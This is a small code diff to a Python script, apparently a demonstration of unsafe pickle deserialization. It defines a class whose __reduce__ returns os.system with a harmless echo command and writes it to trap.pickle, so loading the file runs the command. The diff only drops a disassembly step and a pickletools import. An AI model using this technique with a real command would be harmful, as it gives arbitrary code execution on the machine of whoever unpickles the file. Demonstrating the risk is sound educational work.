@@ -1,6 +1,5 @@
 import os
 import pickle
-import pickletools
 
 
 class Trap:
@@ -9,7 +8,5 @@ class Trap:
         return os.system, ("echo somebody else's code ran here",)
 
 
-trap = pickle.dumps(Trap(), protocol=2)
 with open("trap.pickle", "wb") as file:
-    file.write(trap)
-pickletools.dis(trap)
+    pickle.dump(Trap(), file, protocol=2)
